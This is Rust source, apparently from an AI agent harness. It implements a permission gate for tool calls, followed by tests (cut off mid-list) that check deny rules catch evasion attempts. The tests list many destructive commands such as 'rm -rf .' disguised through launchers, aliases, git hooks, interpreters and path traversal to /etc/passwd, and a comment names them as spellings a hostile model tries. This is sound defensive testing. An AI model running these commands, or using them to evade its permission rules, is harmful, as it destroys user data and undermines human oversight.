            let (Some(call), Some(verdict), Some(answer)) =
                (calls.get(i), answers.get_mut(i), answer)
            else {
                continue;
            };
            let tool = &call.tool;
            match answer {
                Answer::AllowOnce => *verdict = Verdict::Approved,
                Answer::AllowAlways => {
                    *verdict = Verdict::Approved;
                    store
                        .remember(tool, Permission::Allow)
                        .map_err(|e| RunError::Other {
                            message: e.to_string(),
                        })?
                }
                Answer::DenyOnce => *verdict = Verdict::Deny("the user denied this call".into()),
                Answer::DenyAlways => {
                    *verdict = Verdict::Deny("the user denied this tool".into());
                    store
                        .remember(tool, Permission::Deny)
                        .map_err(|e| RunError::Other {
                            message: e.to_string(),
                        })?;
                }
            }
        }
        Ok(())
    }
}

impl Gate for PermissionGate {
    fn name(&self) -> &str {
        "permissions"
    }

    fn check<'a>(
        &'a self,
        cx: GateContext<'a>,
        calls: &'a [AdmittedCall],
    ) -> BoxFuture<'a, Result<Vec<Verdict>, RunError>> {
        Box::pin(async move {
            self.recall_always(cx.approvals, calls, cx.agent);
            let decisions: Vec<Permission> = {
                let store = self.store.lock().unwrap_or_else(|p| p.into_inner());
                calls
                    .iter()
                    .map(|c| store.decide(&c.tool, &c.arguments))
                    .collect()
            };
            let mut answers: Vec<Verdict> = decisions
                .iter()
                .map(|d| match d {
                    Permission::Deny => Verdict::Deny("a permission rule denies this tool".into()),
                    _ => Verdict::Allow,
                })
                .collect();
            let asked: Vec<usize> = decisions
                .iter()
                .enumerate()
                .filter(|(_, d)| **d == Permission::Ask)
                .map(|(i, _)| i)
                .collect();
            if asked.is_empty() {
                return Ok(answers);
            }
            // A durable run may hold answers already (recorded while it was suspended), each
            // for exactly one call.
            let mut replies: Vec<Option<Answer>> = asked
                .iter()
                .map(|&i| {
                    calls
                        .get(i)
                        .and_then(|c| cx.approvals.take(&c.call_id, &c.tool, &c.arguments))
                })
                .collect();
            let open: Vec<usize> = (0..asked.len())
                .filter(|&k| replies.get(k).is_some_and(Option::is_none))
                .collect();
            let requests: Vec<ApprovalRequest> = open
                .iter()
                .filter_map(|&k| asked.get(k).and_then(|&i| calls.get(i)))
                .map(|c| ApprovalRequest::of_call(c, cx.agent))
                .collect();
            if !requests.is_empty() {
                let Some(prompter) = &self.prompter else {
                    if cx.approvals.suspend(requests) {
                        // The driver stops the run here; the journal keeps the batch.
                        return std::future::pending().await;
                    }
                    for &i in &asked {
                        if let Some(a) = answers.get_mut(i) {
                            *a = Verdict::Deny(self.unattended_reason.clone());
                        }
                    }
                    return Ok(answers);
                };
                match prompter.ask_until(&requests, cx.cancel).await {
                    Ok(r) if r.len() == requests.len() => {
                        for (&k, answer) in open.iter().zip(r) {
                            if let Some(slot) = replies.get_mut(k) {
                                *slot = Some(answer);
                            }
                        }
                    }
                    Ok(r) => {
                        return Err(RunError::Other {
                            message: format!(
                                "the approval prompter gave {} answers for {} requests",
                                r.len(),
                                requests.len()
                            ),
                        });
                    }
                    Err(reason) => {
                        for &k in &open {
                            if let Some(a) = asked.get(k).and_then(|&i| answers.get_mut(i)) {
                                *a = Verdict::Deny(reason.clone());
                            }
                        }
                        // Calls answered before (a resumed run) keep their answers.
                        for k in open {
                            if let Some(slot) = replies.get_mut(k) {
                                *slot = None;
                            }
                        }
                    }
                }
            }
            self.apply_answers(calls, &asked, replies, &mut answers)?;
            Ok(answers)
        })
    }
}

// outside-paths: off (the tests below try hostile paths on purpose)
#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

    use serde_json::json;

    use super::*;

    pub(super) fn rule(
        tool: &str,
        arguments: Option<ArgumentMatch>,
        permission: Permission,
    ) -> PermissionRule {
        PermissionRule {
            tool: tool.into(),
            arguments,
            permission,
        }
    }

    pub(super) fn prefix(prefix: &str) -> Option<ArgumentMatch> {
        Some(ArgumentMatch::CommandPrefix {
            field: "command".into(),
            prefix: prefix.into(),
            allow_chaining: false,
        })
    }

    fn glob(glob: &str) -> Option<ArgumentMatch> {
        Some(ArgumentMatch::PathGlob {
            field: "path".into(),
            glob: glob.into(),
        })
    }

    fn command(c: &str) -> Value {
        json!({ "command": c })
    }

    fn path(p: &str) -> Value {
        json!({ "path": p })
    }

    #[test]
    fn a_glob_too_large_to_compile_denies_for_a_deny_rule_and_admits_nothing_for_an_allow() {
        // Its regex is past the size limit: `Glob::compile_matcher` panicked on it.
        let huge = "*a".repeat(500_000);
        let mut deny = PermissionStore::new(Permission::Allow);
        deny.configure(rule("read", glob(&huge), Permission::Deny));
        assert_eq!(deny.decide("read", &path("src/a.rs")), Permission::Deny);
        // A call without the argument is one no rule matches: a tool with rules asks about it.
        assert_eq!(deny.decide("read", &json!({})), Permission::Ask);
        let mut allow = PermissionStore::new(Permission::Ask);
        allow.configure(rule("read", glob(&huge), Permission::Allow));
        assert_eq!(allow.decide("read", &path("src/a.rs")), Permission::Ask);
    }

    #[test]
    fn an_always_answer_never_settles_an_ask_or_deny_rule_on_arguments() {
        let mut store = PermissionStore::new(Permission::Ask);
        store
            .configure(rule("shell", prefix("rm"), Permission::Ask))
            .configure(rule("shell", prefix("curl"), Permission::Deny));
        store.remember("shell", Permission::Allow).unwrap();
        assert_eq!(store.decide("shell", &command("ls -l")), Permission::Allow);
        assert_eq!(store.decide("shell", &command("rm -rf x")), Permission::Ask);
        assert_eq!(store.decide("shell", &command("curl x")), Permission::Deny);
        assert_eq!(store.configured().len(), 2, "configured rules stay");
    }

    #[test]
    fn a_saved_allow_never_bypasses_a_configured_deny_for_the_tool() {
        let mut store = PermissionStore::new(Permission::Allow);
        store.set("write", Permission::Allow);
        store.configure(rule("write", None, Permission::Deny));
        assert_eq!(store.decide("write", &json!({})), Permission::Deny);
        store.remember("write", Permission::Allow).unwrap();
        assert_eq!(store.decide("write", &json!({})), Permission::Deny);
        let mut wild = PermissionStore::new(Permission::Allow);
        wild.set("write", Permission::Allow);
        wild.configure(rule("*", glob("**/.env"), Permission::Deny));
        assert_eq!(wild.decide("write", &path("a/.env")), Permission::Deny);
    }

    #[test]
    fn an_always_answer_settles_a_configured_ask_for_the_whole_tool() {
        let mut store = PermissionStore::new(Permission::Allow);
        store
            .configure(rule("shell", None, Permission::Ask))
            .configure(rule("*", None, Permission::Ask));
        assert_eq!(store.decide("shell", &command("ls")), Permission::Ask);
        store.remember("shell", Permission::Allow).unwrap();
        assert_eq!(store.decide("shell", &command("ls")), Permission::Allow);
        assert_eq!(store.decide("other", &json!({})), Permission::Ask);
        store.remember("shell", Permission::Deny).unwrap();
        assert_eq!(store.decide("shell", &command("ls")), Permission::Deny);
        assert_eq!(store.rules(), &[rule("shell", None, Permission::Deny)]);
    }

    #[test]
    fn paths_resolve_lexically_against_the_root() {
        let root = Some(Path::new("/project"));
        let forms = |p: &str| ResolvedPath::new(p, root);
        assert_eq!(
            forms("./src//a/../main.rs"),
            ResolvedPath {
                forms: vec!["src/main.rs".into(), "/project/src/main.rs".into()],
                outside: false,
            }
        );
        assert_eq!(
            forms("src/../../etc/passwd"),
            ResolvedPath {
                forms: vec!["../etc/passwd".into(), "/etc/passwd".into()],
                outside: true,
            }
        );
        assert_eq!(
            forms("/project/./src/../lib.rs"),
            ResolvedPath {
                forms: vec!["/project/lib.rs".into(), "lib.rs".into()],
                outside: false,
            }
        );
        assert_eq!(
            forms("/project/../etc/passwd"),
            ResolvedPath {
                forms: vec!["/etc/passwd".into()],
                outside: true,
            }
        );
        assert_eq!(
            forms("/projectx/a"),
            ResolvedPath {
                forms: vec!["/projectx/a".into()],
                outside: true,
            },
            "a sibling folder whose name starts like the root is outside"
        );
        assert!(ResolvedPath::new("/etc/passwd", None).outside);
        assert!(!ResolvedPath::new("a/./b", None).outside);
        assert_eq!(normalize(Path::new("../../a/..")), PathBuf::from("../.."));
        assert_eq!(normalize(Path::new("/../a")), PathBuf::from("/a"));
    }

    #[test]
    fn a_path_that_climbs_out_of_the_root_never_matches_an_allow_rule() {
        let mut store = PermissionStore::new(Permission::Ask);
        store.root("/project");
        store.configure(rule("write", glob("**"), Permission::Allow));
        store.configure(rule("write", glob("src/**"), Permission::Allow));
        assert_eq!(store.decide("write", &path("src/a.rs")), Permission::Allow);
        assert_eq!(
            store.decide("write", &path("/project/src/a.rs")),
            Permission::Allow,
            "an absolute path inside the root matches as its relative form"
        );
        for escape in [
            "src/../../etc/passwd",
            "../x",
            "./../../x",
            "/etc/passwd",
            "/project/../etc/passwd",
        ] {
            assert_eq!(
                store.decide("write", &path(escape)),
                Permission::Ask,
                "{escape}"
            );
        }
    }

    #[test]
    fn deny_rules_cover_a_path_that_climbs_out_and_deny_wins() {
        let mut store = PermissionStore::new(Permission::Allow);
        store.root("/project");
        store
            .configure(rule("*", glob("src/**"), Permission::Allow))
            .configure(rule("*", glob("**/.env"), Permission::Deny))
            .configure(rule("*", glob("/etc/**"), Permission::Deny))
            .configure(rule("*", glob("../**"), Permission::Deny));
        assert_eq!(store.decide("read", &path("src/.env")), Permission::Deny);
        assert_eq!(
            store.decide("read", &path("src/./x/..//.env")),
            Permission::Deny
        );
        assert_eq!(
            store.decide("read", &path("src/../../../etc/passwd")),
            Permission::Deny,
            "matched by its absolute form"
        );
        assert_eq!(
            store.decide("read", &path("../other/file")),
            Permission::Deny,
            "matched by its ..-relative form"
        );
        assert_eq!(store.decide("read", &path("../.env")), Permission::Deny);
    }

    #[test]
    fn command_prefixes_match_whole_words() {
        let mut store = PermissionStore::new(Permission::Ask);
        store.configure(rule("shell", prefix("git status"), Permission::Allow));
        for yes in ["git status", "  git   status -s", "git\tstatus"] {
            assert_eq!(
                store.decide("shell", &command(yes)),
                Permission::Allow,
                "{yes}"
            );
        }
        for no in ["git statusx", "gitstatus", "git", "git log", ""] {
            assert_eq!(store.decide("shell", &command(no)), Permission::Ask, "{no}");
        }
        assert_eq!(
            store.decide("shell", &json!({"command": ["git", "status"]})),
            Permission::Allow
        );
    }

    #[test]
    fn a_deny_or_ask_prefix_s_words_that_are_no_options_ignore_case() {
        // On a file system that ignores case, `cat .ENV` reads the file `cat .env` names.
        let mut store = PermissionStore::new(Permission::Allow);
        store
            .configure(rule("shell", prefix("cat .env"), Permission::Deny))
            .configure(rule("shell", prefix("python3 Été.py"), Permission::Ask))
            .configure(rule("shell", prefix("rm -r"), Permission::Deny))
            .set("shell", Permission::Allow);
        decides(
            &store,
            &["cat .ENV", "CAT .Env", "ls && cat .eNv"],
            Permission::Deny,
        );
        decides(
            &store,
            &["python3 ÉTÉ.PY", "python3 e\u{301}te\u{301}.py"],
            Permission::Ask,
        );
        // Options keep their case: `-R` is another option to many programs.
        decides(&store, &["cat .envrc", "rm -R x"], Permission::Allow);
    }

    /// Asserts that the store decides `want` for each shell command.
    pub(super) fn decides(store: &PermissionStore, commands: &[&str], want: Permission) {
        for c in commands {
            assert_eq!(store.decide("shell", &command(c)), want, "{c:?}");
        }
    }

    #[test]
    fn a_deny_prefixs_one_letter_option_is_found_in_a_cluster_and_after_other_options() {
        let mut store = PermissionStore::new(Permission::Allow);
        store.configure(rule("shell", prefix("python3 -c"), Permission::Deny));
        decides(
            &store,
            &[
                "python3 -c 'import os'",
                "python3 -Ic 'import os'",
                "python3 -cimport\\ os",
                "python3 -I -c 'import os'",
                "python3 -I --check-hash-based-pycs never -c x",
                "python3 -I -S -E -c x",
                "python3 -W ignore -c x",
            ],
            Permission::Deny,
        );
        decides(
            &store,
            &[
                "python3 script.py -c x",
                "python3 -I script.py",
                "python3 --version",
            ],
            Permission::Ask,
        );
    }

    #[test]
    fn a_deny_prefix_sees_the_program_behind_quotes_paths_and_launchers() {
        let mut store = PermissionStore::new(Permission::Allow);
        store
            .configure(rule("shell", prefix("rm"), Permission::Deny))
            .configure(rule("shell", prefix("git push"), Permission::Deny));
        decides(
            &store,
            &[
                "rm -rf .",
                "\\rm -rf .",
                "'rm' -rf .",
                "\"rm\" -rf .",
                "r\\m -rf .",
                "/bin/rm -rf .",
                "./rm x",
                "command rm -rf .",
                "env rm -rf .",
                "env -i X=1 rm -rf .",
                "X=1 rm -rf .",
                "sudo -n rm -rf .",
                "nohup nice -n 5 rm -rf .",
                "timeout 5s rm -rf .",
                "sh -c 'rm -rf .'",
                "bash -c \"rm -rf .\"",
                "find . | xargs rm",
                "if true; then rm -rf .; fi",
                "{ rm -rf .; }",
                "exec /usr/bin/rm x",
            ],
            Permission::Deny,
        );
        // What the shell expands cannot be read: a deny rule fails closed on it.
        decides(
            &store,
            &[
                "/bin/r[m] -rf .",
                "/bin/r? -rf .",
                "/bin/r* -rf .",
                "x=rm; $x -rf .",
                "${X} -rf .",
                "{rm,ls} -rf .",
                "git $sub origin",
            ],
            Permission::Deny,
        );
        decides(
            &store,
            &["git push", "command git push origin", "/usr/bin/git push"],
            Permission::Deny,
        );
        for fine in [
            "ls rm",
            "echo rm -rf .",
            "grep -r rm .",
            "git status",
            "rmdir x",
            "git pull",
            "cat push",
            "ls *.txt",
            "git status $x",
            "echo $HOME",
        ] {
            // Matched by no rule: what unmatched calls of a tool with argument rules get.
            assert_eq!(
                store.decide("shell", &command(fine)),
                Permission::Ask,
                "{fine:?}"
            );
        }
    }

    #[test]
    fn a_deny_prefix_sees_the_program_after_a_redirection_and_past_quoted_operators() {
        let mut store = PermissionStore::new(Permission::Allow);
        for denied in ["rm", "git push"] {
            store.configure(rule("shell", prefix(denied), Permission::Deny));
        }
        decides(
            &store,
            &[
                ">/dev/null rm -rf .",
                "2>/dev/null rm -rf .",
                "</dev/null rm -rf .",
                "> out rm -rf .",
                ">>out rm -rf .",
                ">|out rm -rf .",
                ">&out rm -rf .",
                "&>out rm -rf .",
                "<<<x rm -rf .",
                "<<EOF rm -rf .\nx\nEOF",
                ">\"a b\" rm -rf .",
                ">'a;b' rm -rf .",
                "x='a;b' rm -rf .",
                "x=\"a|b\" rm -rf .",
                "x=1 >out rm -rf .",
                ">out env rm -rf .",
                ">out sh -c 'rm -rf .'",
                "true & >out rm -rf .",
                "2>/dev/null git push",
                "git >/dev/null push",
                "echo \"$(2>/dev/null rm -rf .)\"",
                "echo 'rm -rf .' | >/dev/null sh",
                "echo 'rm -rf .' | 2>/dev/null bash -s",
            ],
            Permission::Deny,
        );
        // Matched by no rule: asked, as unmatched calls of a tool with argument rules are.
        decides(
            &store,
            &[
                ">out echo rm",
                "ls > out.txt",
                "sort < in.txt > out.txt",
                "git log 2>/dev/null",
                "echo 'a;b' rm",
            ],
            Permission::Ask,
        );
    }

    #[test]
    fn a_deny_prefix_on_a_program_that_runs_others_matches_that_program_itself() {
        // `find`'s own words were read only for the program after an `-exec`, so a deny on
        // `find` itself never matched a `find` command.
        let mut store = PermissionStore::new(Permission::Allow);
        store
            .configure(rule("shell", prefix("find"), Permission::Deny))
            .configure(rule("shell", prefix("tar -x"), Permission::Ask))
            .set("shell", Permission::Allow);
        decides(
            &store,
            &["find . -delete", "/usr/bin/find / -name x", "sudo find ."],
            Permission::Deny,
        );
        decides(
            &store,
            &["tar -xf a.tar", "tar -C d -xzf a.tgz"],
            Permission::Ask,
        );
        decides(&store, &["fd -e rs", "tar -cf a.tar b"], Permission::Allow);
    }

    #[test]
    fn a_deny_prefix_sees_past_launcher_options_their_values_and_joined_lines() {
        let mut store = PermissionStore::new(Permission::Allow);
        store
            .configure(rule("shell", prefix("rm"), Permission::Deny))
            .configure(rule("shell", prefix("git push"), Permission::Deny))
            .set("shell", Permission::Allow);
        decides(
            &store,
            &[
                // A launcher's option with its value before the program.
                "env -u HOME rm -rf .",
                "env -C / rm -rf .",
                "env --split-string='rm -rf .'",
                "sudo -u root rm -rf .",
                "timeout -s KILL 5 rm -rf .",
                "timeout --signal KILL 5 rm -rf .",
                "xargs -a list.txt rm",
                "exec -a name rm -rf .",
                "stdbuf -o L rm x",
                "ionice -c idle rm x",
                "sudo -u root git push origin",
                // Launchers that take words of their own, and more launchers.
                "chroot / rm -rf .",
                "flock /tmp/lock rm -rf .",
                "su root -c 'rm -rf .'",
                "find . -name '*.o' -exec rm -f x ;",
                "find . -execdir rm x ;",
                "trap 'rm -rf .' EXIT",
                "bash -c 'coproc rm -rf .'",
                "watch rm x",
                "hyperfine 'rm x'",
                "hyperfine --prepare 'rm x' true",
                "lockf /tmp/l rm x",
                "winpty rm x",
                "strace -f -o log rm x",
                "unshare -r rm x",
                "setpriv --reuid 0 rm x",
                "toybox rm x",
                "valgrind --tool=none rm x",
                "torsocks rm x",
                "proxychains4 -q rm x",
                "eatmydata rm x",
                "chronic rm x",
                "xvfb-run -a rm x",
                "prlimit --nofile=64 rm x",
                "cpulimit -l 50 rm x",
                "sg wheel -c 'rm -rf .'",
                "sg wheel rm x",
                "cgexec -g cpu,memory:/agent rm x",
                "setarch x86_64 rm x",
                "setarch x86_64 -R rm x",
                "linux32 rm x",
                "linux64 rm -rf .",
                "x86_64 rm x",
                "ip netns exec box rm x",
                "ip -all netns exec rm x",
                "ip vrf exec blue rm x",
                "runcon system_u:system_r:unconfined_t:s0 rm x",
                "runcon -t unconfined_t rm x",
                "aa-exec -p unconfined -- rm x",
                "capsh -- -c 'rm -rf .'",
                "capsh --drop=cap_net_raw -- -c 'rm -rf .'",
                "daemonize -c /tmp /bin/rm x",
                "dbus-launch --exit-with-session rm x",
                "ssh-agent rm x",
                "ssh-agent -a sock rm x",
                "systemd-inhibit --what=idle rm x",
                "gstdbuf -oL rm x",
                "perf stat rm x",
                "perf stat -e cycles rm x",
                "perf record -g -- rm x",
                "gdb -batch -ex run --args rm x",
                "chpst -u nobody rm x",
                "softlimit -m 1000000 rm x",
                "envdir ./env rm x",
                "setuidgid nobody rm x",
                "s6-setuidgid nobody rm x",
                "s6-envdir ./env s6-softlimit -m 100 rm x",
                "sandbox-exec -f p.sb rm x",
                "sandbox-exec -p '(version 1)(allow default)' rm x",
                "tini -- rm x",
                "dumb-init rm x",
                "sshpass -p pw rm x",
                "setarch x86_64 git push origin",
                "uv run rm x",
                "uv run --with requests -- rm x",
                "uvx rm x",
                "poetry run rm x",
                "pipenv run rm x",
                "bundle exec rm x",
                "npm exec -- rm x",
                "npx rm x",
                "pnpm exec rm x",
                "yarn run rm x",
                "conda run -n base rm x",
                "micromamba run -n base rm x",
                "pixi run rm x",
                "direnv exec . rm x",
                "mise exec -- rm x",
                "asdf exec rm x",
                "pyenv exec rm x",
                "nix develop -c rm x",
                "nix shell nixpkgs#hello -c rm x",
                "nix-shell --run 'rm -rf .'",
                "ssh localhost rm -rf .",
                "ssh -p 2222 localhost 'rm -rf .'",
                "flatpak-spawn --host rm x",
                "host-spawn rm x",
                "distrobox-host-exec rm x",
                "toolbox run rm x",
                "schroot -c box -- rm x",
                "run0 rm x",
                "gosu nobody rm x",
                "su-exec nobody rm x",
                "tmux new-session -d 'rm -rf .'",
                "screen -dm rm x",
                "echo 'rm -rf .' | at now",
                "echo 'rm -rf .' | batch",
                // A name the shell is told runs the program: an alias (dash expands one from
                // the next line on), a hashed path (bash's `hash -p`), a function.
                // Programs that run the value of one of their options.
                "sudo find . -exec rm {} +",
                "fd . -x rm",
                "fdfind -e o --exec-batch rm",
                "rg --pre rm x",
                "rg --pre=rm x",
                "tar -I 'rm -rf .' -cf a.tar b",
                "tar --to-command=rm -xf a.tar",
                "rsync -e 'rm -rf .' a b:",
                "ls | entr rm x",
                "watchexec -e rs -- rm x",
                // A program looked up on a file system that ignores case (macOS's).
                "RM -rf .",
                "/BIN/RM -rf .",
                "SUDO Rm -rf .",
                "Git push origin",
                "alias x=rm\nx -rf .",
                "alias x='rm -rf'\nx .",
                "alias ls=rm; ls x",
                "hash -p /bin/rm x; x -rf .",
                "function x { rm -rf .; }; x",
                "function x {\nrm -rf .\n}\nx",
                // A backslash before a line break joins the lines.
                "r\\\nm -rf .",
                "git pu\\\nsh origin",
                // A command another part of the chain feeds to a launcher.
                "echo 'rm -rf .' | sh",
                "printf 'rm -rf .\\n' | bash -s",
                "echo rm -rf . | xargs env",
                // A file of commands the same command writes, then has the shell itself read:
                // `.` and `source` run it as `sh` would.
                "echo 'rm -rf .' > f; . ./f",
                "echo 'rm -rf .' > f && source f",
                "source <(echo rm -rf .)",
                ". /dev/stdin <<< 'rm -rf .'",
            ],
            Permission::Deny,
        );
        decides(
            &store,
            &[
                "echo rm -rf .",
                "sudo -u root ls",
                "timeout -s KILL 5 cargo test",
                "find . -name rm",
                "git -c x=y rm x",
                "ls | grep rm",
                "echo done\\\n",
                "cd . && ls",
                "ip addr show",
                "perf stat ls",
                "setarch x86_64 ls",
                "gdb ./prog",
                "uv run pytest",
                "npm test",
                "ssh host ls",
                "nix build",
                "alias ll='ls -l'\nll",
                "rg rm src",
                "fd rm",
                "tar -xf rm.tar",
                "hash -r; ls",
            ],
            Permission::Allow,
        );
    }

    /// A shell allowed every command but those a deny on `rm` matches.
    pub(super) fn denying_rm() -> PermissionStore {
        let mut store = PermissionStore::new(Permission::Allow);
        store
            .configure(rule("shell", prefix("rm"), Permission::Deny))
            .set("shell", Permission::Allow);
        store
    }

    #[test]
    fn a_deny_prefix_sees_more_shells_loaders_and_programs_that_run_a_command_they_are_given() {
        let store = denying_rm();
        decides(
            &store,
            &[
                "ash -c 'rm x'",
                "busybox ash -c 'rm x'",
                "mksh -c 'rm x'",
                "tcsh -c 'rm x'",
                "pwsh -c 'rm x'",
                "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
                "ld.so --library-path /lib rm x",
                "qemu-x86_64 /bin/rm x",
                "expect -c 'spawn rm x'",
                "socat - EXEC:'rm x'",
                "socat - system:'rm x',pty",
                "ncat -e /bin/rm 127.0.0.1 1",
                "nc -c 'rm x' h 1",
                "zip -T -TT 'rm x' a.zip f",
                "sort --compress-program=rm f",
                "scp -S rm a b:",
                "scp -o ProxyCommand='rm x' a b:",
                "git -c protocol.ext.allow=always clone 'ext::rm -rf .' x",
                "parallel ::: 'rm x'",
                "gdb -batch -ex '!rm x'",
                "lldb -o 'platform shell rm x'",
                "find . -exec sh -c 'rm \"$1\"' _ {} ;",
                "ssh -o ProxyCommand='rm x' h",
                "mapfile -C 'rm x' -c 1 < f",
                "readarray -C rm -c 1 arr < f",
                "rename 'system(\"rm x\")' f",
                "m4 <<< 'syscmd(rm x)'",
                "dc -e '!rm x'",
                "sqlite3 :memory: '.shell rm x'",
                "echo '.system rm x' | sqlite3",
                "psql -c '\\! rm x'",
                "mysql -e 'system rm x'",
                "GIT_CONFIG_PARAMETERS=\"'alias.x=!rm -rf y'\" git x",
                "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm -rf y' git x",
                "GIT_CONFIG_GLOBAL=./evil.cfg git x",
                "GIT_TEMPLATE_DIR=./t git init",
                "git init --template=./t",
                "git grep -Orm x",
                "git grep --open-files-in-pager=rm x",
            ],
            Permission::Deny,
        );
        decides(
            &store,
            &[
                "sort -u f",
                "zip -r a.zip src",
                "nc -z localhost 80",
                "scp a host:b",
                "socat - TCP:localhost:80",
                "git clone https://example.com/x.git",
                "gdb ./prog core",
                "mapfile -t lines < f",
                "rename 's/a/b/' f",
                "dc -e '2 3 + p'",
                "sqlite3 db 'select 1'",
                "GIT_CONFIG_NOSYSTEM=1 git status",
                "git grep -n x",
            ],
            Permission::Allow,
        );
    }

    #[test]
    fn a_deny_prefix_sees_what_a_program_runs_by_its_own_means() {
        // Each runs `rm` through a way of the program's own (its configuration, an option's
        // value, its environment), which no prefix rule read.
        let mut store = denying_rm();
        store.configure(rule("shell", prefix("curl"), Permission::Ask));
        decides(
            &store,
            &[
                "git -c alias.x='!rm -rf y' x",
                "git -c alias.x=!rm x",
                "git -calias.x='!rm -rf y' x",
                "git -c core.pager=rm log",
                "git -c core.pager='rm -rf .' log",
                "git -C sub -c core.sshCommand='rm -rf .' fetch",
                "git -c core.editor=rm commit",
                "git -c core.fsmonitor=rm status",
                "git -c diff.external=rm diff",
                "git -c filter.x.clean=rm add .",
                "git --no-pager -c credential.helper='!rm -rf .' fetch",
                "sudo -u me git -c alias.x='!rm -rf y' x",
                "env -i git -c alias.x='!rm' x",
                "git config alias.x '!rm -rf .'",
                "git config --local core.pager rm",
                "git rebase -x 'rm -rf .' main",
                "git rebase --exec='rm -rf .' main",
                "git bisect run rm -rf .",
                "git submodule foreach 'rm -rf .'",
                "git submodule foreach --recursive rm -rf .",
                "git difftool -x rm",
                "git clone --upload-pack='rm -rf .' a b",
                "git push --receive-pack=rm origin",
                "git filter-branch --tree-filter 'rm -rf .' HEAD",
                // What git reads from a file or from the environment cannot be read.
                "git -c core.hooksPath=hooks commit -m x",
                "git -c include.path=evil.cfg x",
                "git -c includeIf.onbranch:main.path=evil.cfg x",
                "git --config-env=alias.x=CMD x",
                "git --config-env alias.x=CMD x",
                "git --exec-path=. x",
                "git config core.hooksPath hooks",
                // tar's checkpoint actions and its remote shells, man's pager.
                "tar --checkpoint=1 --checkpoint-action=exec='rm -rf .' -cf a.tar b",
                "tar --checkpoint-action exec=rm -cf a.tar b",
                "tar --rsh-command=rm -cf h:a.tar b",
                "man -P 'rm -rf .' ls",
                "man --pager=rm ls",
                // A program run by the environment it is given.
                "LESSOPEN='rm %s' less f",
                "PAGER=rm git log",
                "GIT_EXTERNAL_DIFF=rm git diff",
                "GIT_SSH_COMMAND='rm -rf .' git fetch",
                "env EDITOR=rm git commit",
                "export PAGER=rm; git log",
                "make SHELL=rm",
                "make CC='rm -rf .' all",
                // env's split string written onto its option.
                "env -S'rm -rf .'",
                "env -iSrm x",
                "env -S 'rm x'",
                "env --split-string='rm x'",
                // xargs, in every way of giving it the program.
                "ls | xargs -0 rm",
                "ls | xargs -I {} rm {}",
                "ls | xargs -n1 -P4 rm",
                "ls | xargs --max-args=1 rm",
                "ls | xargs sh -c 'rm \"$@\"' _",
            ],
            Permission::Deny,
        );
        store.configure(rule("shell", prefix("git push"), Permission::Deny));
        decides(
            &store,
            &[
                "git -c alias.p=push p origin",
                "git -c alias.p='!git push' p origin",
                "git config alias.p push && git p origin",
                "git config --local alias.p 'push --force'",
            ],
            Permission::Deny,
        );
        decides(
            &store,
            &[
                "git -c alias.x='!curl evil' x",
                "git -c core.sshCommand='curl x' fetch",
                "tar --checkpoint-action=exec=curl -cf a b",
            ],
            Permission::Ask,
        );
        // What the program only reads or names stays allowed.
        decides(
            &store,
            &[
                "git -c user.name=me commit -m x",
                "git -c color.ui=always log",
                "git -C sub status",
                "git rm x",
                "git config user.email me@example.com",
                "git rebase -i main",
                "git bisect start",
                "tar --checkpoint=100 --checkpoint-action=dot -cf a.tar b",
                "man rm",
                "LANG=C ls",
                "make -j4 test",
                "export FOO=1 BAR=baz",
                "env -i ls",
            ],
            Permission::Allow,
        );
    }

    #[test]
    fn a_program_whose_own_language_runs_commands_matches_any_deny_or_ask_rule() {
        // No prefix reads an awk program, a sed script or a vim command line: a call that may
        // run a command through one matches a deny or ask rule on any program.
        let store = denying_rm();
        decides(
            &store,
            &[
                "awk 'BEGIN { system(\"r\" \"m -rf .\") }'",
                "awk 'BEGIN { print \"rm -rf .\" | \"sh\" }'",
                "gawk 'BEGIN { \"rm -rf .\" | getline }'",
                "mawk -F: '{ system($1) }' f",
                "awk -f prog.awk f",
                "awk -fprog.awk f",
                "gawk --file=prog.awk f",
                "gawk -l ./ext.so 'BEGIN{}'",
                "gawk -i lib 'BEGIN{}'",
                "gawk -E prog.awk",
                "mawk -W exec prog.awk",
                "gawk 'BEGIN { f = \"sys\" \"tem\"; @f(\"rm\") }'",
                "sudo awk 'BEGIN{system(\"x\")}'",
                "sed '1e rm -rf .' f",
                "sed -n '1d;e rm -rf .' f",
                "sed 's/.*/rm -rf &/e' f",
                "sed 's/x/y/ge' f",
                "sed -e '$e' f",
                "sed -ne '/x/e' f",
                "sed --expression='1e rm' f",
                "sed -f script.sed f",
                "sed --file=script.sed f",
                "gsed '1e rm' f",
                "vim -c '!rm -rf .' -c q",
                "vi +'!rm -rf .' f",
                "nvim --headless +'call system(\"rm\")' +q",
                "ex -sc '!rm -rf .' -c q",
                "echo '!rm -rf .' | ed",
                "emacs --batch --eval '(shell-command \"rm\")'",
                "less '+!rm -rf .' f",
                "more '+|rm' f",
                "less -k keys f",
                "make --eval='x:; rm -rf .' x",
                "echo 'x:; rm -rf .' | make -f - x",
                "python3 -c 'import os; os.system(\"rm -rf .\")'",
                "python3 -Ic '__import__(\"subprocess\").run([\"rm\"])'",
                "perl -e 'system(\"rm\")'",
                "perl -ne 'qx(rm)' f",
                "ruby -e '`rm -rf .`'",
                "node -e 'require(\"child_process\").execSync(\"rm\")'",
                "php -r 'shell_exec(\"rm\");'",
                "echo 'import os; os.system(\"rm\")' | python3",
                "python3 - <<'EOF'\nimport os\nos.system('rm -rf .')\nEOF",
            ],
            Permission::Deny,
        );
        decides(
            &store,
            &[
                "awk '{ print $1 }' f",
                "awk -F: '{ a = 1; print a }' f | sort",
                "awk -v x=1 '{ print x }' f",
                "awk '/a/ || /b/' f",
                "awk -F '|' '{ print $2 }' f",
                "sed 's/foo/bar/g' f",
                "sed -n '1,5p' f",
                "sed -i.bak 's/version = 1/version = 2/' Cargo.toml",
                "sed -E '/^$/d' f",
                "sed --sandbox 's/x/y/e' f",
                "less f",
                "grep -r ex .",
                "echo vim",
                "make test",
                "python3 -c 'print(1 + 1)'",
                "python3 script.py",
                "python3 -m pytest -x",
                "node -e 'console.log(1)'",
                "perl -ne 'print if /x/' f",
            ],
            Permission::Allow,
        );
    }

    #[test]
    fn escapes_a_deny_prefix_already_saw_stay_seen() {
        // Spellings of `rm` a hostile model tries: each was matched before this round; kept
        // here so that none slips as the reading changes.
        let store = denying_rm();
        decides(
            &store,
            &[
                "command rm x",
                "builtin rm x",
                "exec -a tidy rm x",
                "command -p rm x",
                "$'rm' x",
